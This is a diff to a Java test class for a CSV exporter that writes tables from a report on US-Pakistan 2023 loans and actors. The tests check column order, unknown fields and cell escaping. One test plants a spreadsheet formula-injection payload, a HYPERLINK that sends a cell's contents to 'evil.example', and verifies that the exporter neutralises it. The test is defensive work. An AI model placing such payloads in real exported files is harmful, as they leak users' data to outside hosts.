@@ -9,6 +9,8 @@ import com.fasterxml.jackson.databind.MappingIterator;
 import com.fasterxml.jackson.databind.ObjectMapper;
 import com.fasterxml.jackson.dataformat.csv.CsvMapper;
 import com.fasterxml.jackson.dataformat.csv.CsvSchema;
+import io.github.bilateral.io.ReportReader;
+import io.github.bilateral.io.ReportWriter;
 import io.github.bilateral.io.Reports;
 import io.github.bilateral.model.Actor;
 import io.github.bilateral.model.Report;
@@ -65,15 +67,15 @@ class CsvTablesTest {
     assertThat(Files.readString(dir.resolve("tables/loans.csv"), StandardCharsets.UTF_8).lines().findFirst().orElseThrow())
         .isEqualTo("id,kind,lenders,borrowers,amount.value,amount.qualifier,amount.printed,amount.currency,"
             + "status,history[0].date,history[0].status,history[0].note,date,datePart,term,partOf,agreement,"
-            + "purpose,places,summary,provenance.sections,provenance.footnotes,"
+            + "purpose,places,summary,provenance.sections,provenance.footnotes,provenance.basis,"
+            + "provenance.fields.kind.basis,provenance.fields.kind.note,"
             + "provenance.fields.borrowers.basis,provenance.fields.borrowers.footnotes,provenance.fields.borrowers.note,"
-            + "provenance.fields.status.basis,provenance.fields.status.footnotes,provenance.fields.status.note,"
             + "provenance.fields.amount.basis,provenance.fields.amount.footnotes,"
+            + "provenance.fields.status.basis,provenance.fields.status.footnotes,provenance.fields.status.note,"
             + "provenance.fields.date.basis,provenance.fields.date.footnotes,provenance.fields.date.note,"
             + "provenance.fields.term.basis,provenance.fields.term.footnotes,"
             + "provenance.fields.partOf.basis,provenance.fields.partOf.footnotes,provenance.fields.partOf.note,"
-            + "provenance.fields.kind.basis,provenance.fields.kind.note,"
-            + "provenance.fields.agreement.basis,provenance.fields.agreement.note,provenance.basis");
+            + "provenance.fields.agreement.basis,provenance.fields.agreement.note");
     Map<String, String> sba = loans.stream().filter(l -> l.get("id").equals("imf-sba-2023")).findFirst().orElseThrow();
     assertThat(sba).containsEntry("kind", "stand-by-arrangement").containsEntry("lenders", "imf")
         .containsEntry("borrowers", "pakistan").containsEntry("amount.value", "3000000000")
@@ -212,6 +214,39 @@ class CsvTablesTest {
     }
   }
 
+  /** The bundled report with the first actor given unknown fields, as a lenient reader keeps them. */
+  static Report withUnknownFieldsOnFirstActor(String fields) {
+    Report r = Reports.usPakistan2023();
+    String json = ReportWriter.canonical().toJson(r.actors().get(0)).stripTrailing();
+    String extended = json.substring(0, json.length() - 1) + "," + fields + "}";
+    Actor actor = ReportReader.lenient().readFact(Actor.class, extended);
+    List<Actor> actors = new ArrayList<>(r.actors());
+    actors.set(0, actor);
+    return Report.copyOf(r).withActors(actors);
+  }
+
+  @Test
+  void headerCellsThatWouldStartAFormulaAreNeutralisedLikeDataCells() throws Exception {
+    String hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A2,\"click\")";
+    Report r = withUnknownFieldsOnFirstActor(
+        JSON.writeValueAsString(hyperlink) + ":\"x\",\"+cmd\":\"-2+3\",\"@x\":{\"-y\":\"z\"}");
+    String header = new String(table(r, "actors"), StandardCharsets.UTF_8).lines().findFirst().orElseThrow();
+    assertThat(header).startsWith("id,kind,name,").endsWith(
+        ",\"'=HYPERLINK(\"\"http://evil\\.example/?\"\"&A2,\"\"click\"\")\",\"'+cmd\",\"'@x.-y\"");
+    List<Map<String, String>> rows = read(table(r, "actors"));
+    // The name's dot has a backslash before it, as in any unknown field's name.
+    assertThat(rows.get(0)).containsEntry("'" + hyperlink.replace(".", "\\."), "x").containsEntry("'+cmd", "'-2+3")
+        .containsEntry("'@x.-y", "z");
+    // Exact cells leave the header as the file names its fields, and the known columns never change.
+    ByteArrayOutputStream exact = new ByteArrayOutputStream();
+    Exporter.csvTable(r, "actors", exact, CsvOptions.defaults().withExactCells());
+    String exactHeader = new String(exact.toByteArray(), StandardCharsets.UTF_8).lines().findFirst().orElseThrow();
+    assertThat(exactHeader).endsWith(",\"" + hyperlink.replace("\"", "\"\"").replace(".", "\\.") + "\",+cmd,@x.-y");
+    String bundled = new String(table(Reports.usPakistan2023(), "actors"), StandardCharsets.UTF_8).lines()
+        .findFirst().orElseThrow();
+    assertThat(header).startsWith(bundled + ",");
+  }
+
   @Test
   void exactCellsLeaveEveryValueAsItIs() {
     Report r = withFirstActor("=1+2", "-x");
@@ -293,6 +328,217 @@ class CsvTablesTest {
         assertThat(columns.subList(0, i - 1)).as(header).noneMatch(c -> c.startsWith(element + "."));
       }
     }
+  }
+
+  private static List<String> header(Report r, String table) {
+    String line = new String(table(r, table), StandardCharsets.UTF_8).lines().findFirst().orElseThrow();
+    return List.of(line.split(",", -1));
+  }
+
+  /** The distinct names a header has at the top level, in the order it has them: offices[0].title is offices. */
+  private static List<String> topLevel(List<String> header) {
+    return header.stream().map(c -> c.replaceAll("[.\\[].*", "")).distinct().toList();
+  }
+
+  @Test
+  void theBundledTablesHaveTheirColumnsInCanonicalFieldOrder() {
+    Report r = Reports.usPakistan2023();
+    List<String> actors = header(r, "actors");
+    assertThat(topLevel(actors)).containsExactly("id", "kind", "name", "unnamed", "aliases", "country", "offices",
+        "possibleIdentities", "summary", "provenance");
+    assertThat(actors).containsSubsequence("offices[0].title", "offices[0].organisation", "offices[0].from",
+        "offices[0].fromPart", "offices[0].to", "offices[0].note", "offices[1].title");
+    assertThat(actors.stream().filter(c -> c.startsWith("provenance.")).map(c -> c.split("\\.")[1]).distinct())
+        .containsExactly("sections", "footnotes", "page", "basis", "note", "fields");
+    assertThat(header(r, "loans")).containsSubsequence("summary", "provenance.sections", "provenance.footnotes",
+        "provenance.basis", "provenance.fields.kind.basis", "provenance.fields.borrowers.basis",
+        "provenance.fields.amount.basis", "provenance.fields.status.basis", "provenance.fields.agreement.basis");
+    // Every table, every level: adjacent columns part at a step where the format's order, or the
+    // order of a list's indexes, puts the first before the second.
+    ReportWriter w = ReportWriter.canonical();
+    for (String table : Exporter.csvTables(r)) {
+      List<String> columns = header(r, table);
+      for (int i = 1; i < columns.size(); i++) {
+        String[] a = columns.get(i - 1).split("(?=\\[)|\\.");
+        String[] b = columns.get(i).split("(?=\\[)|\\.");
+        List<String> path = new ArrayList<>(List.of(table));
+        int j = 0;
+        while (j < a.length && j < b.length && a[j].equals(b[j])) {
+          if (!a[j].startsWith("[")) {
+            path.add(a[j]);
+          }
+          j++;
+        }
+        String where = table + ": " + columns.get(i - 1) + " before " + columns.get(i);
+        assertThat(j).as(where).isLessThan(Math.min(a.length, b.length) + 1);
+        if (j == a.length) {
+          continue;
+        }
+        assertThat(j).as(where).isLessThan(b.length);
+        if (a[j].startsWith("[")) {
+          assertThat(Integer.parseInt(a[j].replaceAll("\\D", ""))).as(where)
+              .isLessThan(Integer.parseInt(b[j].replaceAll("\\D", "")));
+        } else {
+          List<String> order = w.fieldOrder(path).orElseThrow();
+          assertThat(order.indexOf(a[j])).as(where).isNotNegative().isLessThan(order.indexOf(b[j]));
+        }
+      }
+    }
+  }
+
+  @Test
+  void theOrderOfTheFactsDoesNotChangeAHeader() throws Exception {
+    Report r = Reports.usPakistan2023();
+    Report reversed = Report.copyOf(r)
+        .withSections(com.google.common.collect.Lists.reverse(r.sections()))
+        .withCitations(com.google.common.collect.Lists.reverse(r.citations()))
+        .withActors(com.google.common.collect.Lists.reverse(r.actors()))
+        .withPlaces(com.google.common.collect.Lists.reverse(r.places()))
+        .withRelations(com.google.common.collect.Lists.reverse(r.relations()))
+        .withLoans(com.google.common.collect.Lists.reverse(r.loans()))
+        .withAgreements(com.google.common.collect.Lists.reverse(r.agreements()))
+        .withRecommendations(com.google.common.collect.Lists.reverse(r.recommendations()))
+        .withEvents(com.google.common.collect.Lists.reverse(r.events()))
+        .withFigures(com.google.common.collect.Lists.reverse(r.figures()))
+        .withAssessments(com.google.common.collect.Lists.reverse(r.assessments()))
+        .withErrata(com.google.common.collect.Lists.reverse(r.errata()));
+    assertThat(Exporter.csvTables(reversed)).isEqualTo(Exporter.csvTables(r));
+    assertThat(read(table(reversed, "actors")).get(0)).isEqualTo(read(table(r, "actors")).get(r.actors().size() - 1));
+    for (String table : Exporter.csvTables(r)) {
+      assertThat(header(reversed, table)).as(table).isEqualTo(header(r, table));
+    }
+  }
+
+  @Test
+  void unknownFieldsComeAfterTheKnownFieldsOfTheirObjectInTheOrderOfTheRows() {
+    Report r = withUnknownFieldsOnFirstActor("\"zeta\":\"z\",\"alpha\":{\"b\":\"1\",\"a\":\"2\"}");
+    List<String> bundled = header(Reports.usPakistan2023(), "actors");
+    assertThat(header(r, "actors")).containsExactlyElementsOf(
+        com.google.common.collect.ImmutableList.<String>builder().addAll(bundled)
+            .add("zeta", "alpha.b", "alpha.a").build());
+    // Inside a nested object and a list's element: after the known fields of that object.
+    Report nested = Reports.usPakistan2023();
+    int kakar = nested.actors().indexOf(nested.actors().stream()
+        .filter(a -> a.id().toString().equals("anwar-ul-haq-kakar")).findFirst().orElseThrow());
+    String json = ReportWriter.canonical().toJson(nested.actors().get(kakar));
+    assertThat(nested.actors().get(kakar).offices()).hasSizeGreaterThan(1);
+    String extended = json.replaceFirst("\"sections\": \\[", "\"extra\": \"p\",\"sections\": [")
+        .replaceFirst("\"title\": ", "\"x\": \"o\", \"title\": ");
+    Actor actor = ReportReader.lenient().readFact(Actor.class, extended);
+    List<Actor> actors = new ArrayList<>(nested.actors());
+    actors.set(kakar, actor);
+    List<String> columns = header(Report.copyOf(nested).withActors(actors), "actors");
+    assertThat(columns.indexOf("offices[0].x")).isEqualTo(columns.indexOf("offices[0].note") + 1)
+        .isLessThan(columns.indexOf("offices[1].title"));
+    assertThat(columns.indexOf("provenance.extra")).isGreaterThan(columns.indexOf("provenance.basis"))
+        .isEqualTo(columns.size() - 1);
+  }
+
+  @Test
+  void everyValueOfAnUnknownFieldHasACellThatTellsItsType() throws Exception {
+    Report r = withUnknownFieldsOnFirstActor("\"x\":{\"e\":[],\"o\":{},\"n\":[1.0,1e-07,12345678901234567890123],"
+        + "\"deep\":{\"a\":[{\"b\":[]},{}]},\"t\":true,\"f\":false,\"nul\":null,\"i\":-5,\"d\":2.50,"
+        + "\"s\":\"Pakistan\",\"st\":\"true\",\"sn\":\"null\",\"s5\":\"-5\",\"empty\":\"\",\"sq\":\"[x\",\"sp\":\" 12 \","
+        + "\"eq\":\"=1+2\",\"mixed\":[1,{\"a\":2},\"s\"],\"texts\":[\"a|b\",\"c\"],\"objs\":[{\"k\":\"v\"},{\"k\":true}]}");
+    Map<String, String> row = read(table(r, "actors")).get(0);
+    assertThat(row).containsEntry("x.e", "[]").containsEntry("x.o", "{}")
+        .containsEntry("x.n", "[1.0,1e-07,12345678901234567890123]")
+        .containsEntry("x.deep.a[0].b", "[]").containsEntry("x.deep.a[1]", "{}")
+        .containsEntry("x.t", "true").containsEntry("x.f", "false").containsEntry("x.nul", "null")
+        .containsEntry("x.i", "-5").containsEntry("x.d", "2.50")
+        .containsEntry("x.s", "Pakistan").containsEntry("x.st", "\"true\"").containsEntry("x.sn", "\"null\"")
+        .containsEntry("x.s5", "\"-5\"").containsEntry("x.empty", "\"\"").containsEntry("x.sq", "\"[x\"")
+        .containsEntry("x.sp", "\" 12 \"").containsEntry("x.eq", "'=1+2")
+        .containsEntry("x.mixed", "[1,{\"a\":2},\"s\"]").containsEntry("x.texts", "[\"a|b\",\"c\"]")
+        .containsEntry("x.objs[0].k", "v").containsEntry("x.objs[1].k", "true");
+    // The known fields' cells are those of the bundled report.
+    Map<String, String> bundled = read(table(Reports.usPakistan2023(), "actors")).get(0);
+    bundled.forEach((column, cell) -> assertThat(row).containsEntry(column, cell));
+  }
+
+  @Test
+  void aCellOfAnUnknownFieldReadsBackAsItsValue() {
+    Gen<String> scalar = Gen.elements("true", "false", "null", "0", "-5", "2.50", "1e-07", "\"\"", "\"true\"",
+        "\"null\"", "\"-5\"", "\"12 \"", "\" [\"", "\"{\"", "\"\\\"q\"", "\"Pakistan\"", "\"a|b\"", "\"0x\"", "\"01\"",
+        "\"1.\"", "\"  \"", "\"\\tfalse\"", "\"=1\"", "\"'x\"", "[]", "{}", "[1,\"a\",null]", "[[]]");
+    Gen<String> value = Gen.listOf(scalar, 0, 3).flatMap(l -> Gen.elements(
+        l.isEmpty() ? "[]" : l.get(0), "[" + String.join(",", l) + "]",
+        "{" + String.join(",", l.stream().map(v -> "\"k" + v.hashCode() + "\":" + v).distinct().toList()) + "}"));
+    for (CsvOptions options : List.of(CsvOptions.defaults(), CsvOptions.defaults().withExactCells())) {
+      Property.forAll("an unknown field's cells read back", value).tries(500).verify(v -> {
+        String part = "{\"id\":\"a\",\"x\":" + v + "}";
+        Map<String, String> cells = CsvTables.flatten("actors", part.getBytes(StandardCharsets.UTF_8), options);
+        try {
+          JsonNode expected = JSON.readTree(v);
+          Map<String, JsonNode> leaves = new LinkedHashMap<>();
+          unknownLeaves(expected, "x", leaves);
+          assertThat(cells.keySet()).as(part).containsExactlyInAnyOrderElementsOf(
+              com.google.common.collect.Sets.union(Set.of("id"), leaves.keySet()));
+          leaves.forEach((column, leaf) -> assertThat(decode(cells.get(column), options)).as(part + " " + column)
+              .isEqualTo(leaf));
+        } catch (Exception e) {
+          throw new AssertionError(e);
+        }
+      });
+    }
+  }
+
+  /** The cells an unknown value has: objects by field, lists of objects by index, any other value whole. */
+  private static void unknownLeaves(JsonNode n, String path, Map<String, JsonNode> out) {
+    boolean objects = n.isArray() && !n.isEmpty();
+    for (JsonNode e : n) {
+      objects &= n.isArray() && e.isObject();
+    }
+    if (n.isObject() && !n.isEmpty()) {
+      n.properties().forEach(f -> unknownLeaves(f.getValue(), path + "." + f.getKey(), out));
+    } else if (objects) {
+      for (int i = 0; i < n.size(); i++) {
+        unknownLeaves(n.get(i), path + "[" + i + "]", out);
+      }
+    } else {
+      out.put(path, n);
+    }
+  }
+
+  /** Reads a cell of an unknown field as the rule says: one JSON value if it is one, else the string. */
+  private static JsonNode decode(String cell, CsvOptions options) {
+    String text = options.neutralisesFormulas() && cell.startsWith("'") ? cell.substring(1) : cell;
+    try {
+      JsonNode n = JSON.reader().with(DeserializationFeature.FAIL_ON_TRAILING_TOKENS).readTree(text);
+      if (n != null && !n.isMissingNode()) {
+        return n;
+      }
+    } catch (Exception notJson) {
+      // a string as it is
+    }
+    return JSON.getNodeFactory().textNode(text);
+  }
+
+  @Test
+  void theBundledCellsAreThoseOfTheFormatsFields() {
+    // Knowing which fields the format knows changes no cell of a report without unknown fields.
+    Report r = Reports.usPakistan2023();
+    for (ReportParts.Table t : ReportParts.tables(r)) {
+      for (Object part : t.parts()) {
+        byte[] json = ReportParts.compact(part);
+        assertThat(CsvTables.flatten(t.name(), json, CsvOptions.defaults()))
+            .isEqualTo(CsvTables.flatten(json, CsvOptions.defaults()));
+      }
+    }
+  }
+
+  @Test
+  void unknownFieldNamesThatLookLikePathsGetColumnsOfTheirOwn() throws Exception {
+    Report r = withUnknownFieldsOnFirstActor("\"a.b\":\"p\",\"a\":{\"b\":\"q\"},\"offices[0].title\":\"t\","
+        + "\"back\\\\slash\":\"s\",\"l[1]\":[{\"x]\":\"u\"}]");
+    Map<String, String> row = read(table(r, "actors")).get(0);
+    Map<String, String> bundled = read(table(Reports.usPakistan2023(), "actors")).get(0);
+    assertThat(row).containsEntry("a\\.b", "p").containsEntry("a.b", "q").containsEntry("offices\\[0\\]\\.title", "t")
+        .containsEntry("back\\\\slash", "s").containsEntry("l\\[1\\][0].x\\]", "u");
+    bundled.forEach((column, cell) -> assertThat(row).containsEntry(column, cell));
+    List<String> columns = header(r, "actors");
+    assertThat(columns.subList(columns.size() - 5, columns.size())).containsExactly("a\\.b", "a.b",
+        "offices\\[0\\]\\.title", "back\\\\slash", "l\\[1\\][0].x\\]");
   }
 
   @Test
